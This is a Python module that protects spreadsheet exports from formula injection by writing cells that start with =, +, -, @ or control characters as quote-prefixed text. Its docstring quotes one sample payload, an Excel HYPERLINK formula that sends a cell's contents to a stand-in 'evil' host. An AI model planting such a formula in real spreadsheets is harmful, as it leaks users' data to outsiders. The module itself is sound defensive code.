"""Safe spreadsheet cells for every export (CSV/formula injection).

Text we export is not ours: the bureau's error text, organisation names, buyer names.
A string starting with ``=``, ``+``, ``-`` or ``@`` (or a tab / CR / LF before one)
would become a live formula in Excel — ``=HYPERLINK("http://evil/?"&A1, "点击")``
sends the sheet away. Such a string is written as a text cell (never a formula) with
Excel's quote prefix, so it stays text even when a clerk edits the cell; the value itself
is unchanged, so a re-import reads what was exported. Numbers and dates keep their type.
"""
from __future__ import annotations

from openpyxl.cell import WriteOnlyCell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def needs_quoting(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(value, ws=None):
    """`value` as it may go into a row of `ws`: a dangerous string becomes a text cell
    with the quote prefix; anything else (numbers, dates, prepared cells) is left as is."""
    if not needs_quoting(value):
        return value
    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def append_row(ws, values) -> None:
    """The one way an export writes a row: every cell through `safe_cell`."""
    ws.append([safe_cell(v, ws) for v in values])
